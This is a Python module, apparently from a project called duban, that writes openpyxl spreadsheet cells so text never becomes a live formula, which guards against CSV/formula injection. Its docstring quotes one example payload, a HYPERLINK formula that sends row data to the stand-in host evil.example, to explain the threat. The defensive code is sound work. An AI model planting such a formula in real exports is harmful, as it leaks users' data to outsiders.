"""Safe spreadsheet cells: the one way every Excel writer of duban puts data in a cell.

openpyxl stores any text beginning with "=" as a live formula, so a task named
`=HYPERLINK("http://evil.example/?leak="&D2,"点击")` would become a link that sends
the row to a stranger the moment someone clicks it (CWE-1236, "CSV/formula
injection"). Here text is always a text cell (data type "s", never "f"), and text
beginning with = + - @, a tab or a carriage return also carries Excel's quote
prefix, so that editing the cell in Excel keeps it text. The value itself is not
changed: an export imports back unchanged.

Control characters Excel cannot store (pasted from Word) are dropped.
"""

from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.styles.cell_style import StyleArray
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

from duban.core.textchars import without_controls

#: what a spreadsheet program may take as the start of a formula
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


#: text without the control characters Excel cannot store; other values as given
clean = without_controls


def looks_like_formula(value):
    return isinstance(value, str) and value.startswith(FORMULA_START)


def _as_text(cell, value):
    if isinstance(value, str):
        cell.data_type = "s"  # whatever openpyxl guessed from a leading "="
        if value.startswith(FORMULA_START):
            cell.quotePrefix = True
    return cell


def set_value(cell, value):
    """Put `value` in an existing cell; text never becomes a formula. Returns the cell."""
    value = clean(value)
    cell.value = value
    return _as_text(cell, value)


def style(ws, **attributes):
    """A style (font, fill, alignment, border, number_format) computed once for many cells
    of `ws`: openpyxl looks a style up by hashing it on every assignment, which costs
    more than writing the cell."""
    probe = cell(ws, None, **attributes)
    return probe._style


def cell(
    ws,
    value,
    *,
    style=None,
    font=None,
    fill=None,
    alignment=None,
    border=None,
    number_format=None,
):
    """A detached cell for `ws.append` (normal or write-only sheet), holding `value` safely,
    with a `style` from `style()` and/or single style attributes."""
    value = clean(value)
    made = WriteOnlyCell(ws, value) if isinstance(ws, WriteOnlyWorksheet) else Cell(ws, value=value)
    if style is not None:
        made._style = StyleArray(style)  # a copy: the quote prefix below is per cell
    _as_text(made, value)
    if font is not None:
        made.font = font
    if fill is not None:
        made.fill = fill
    if alignment is not None:
        made.alignment = alignment
    if border is not None:
        made.border = border
    if number_format is not None:
        made.number_format = number_format
    return made


def append_row(ws, values, **style):
    """Append `values` as one row of safe cells (every cell with the same style)."""
    ws.append([cell(ws, value, **style) for value in values])
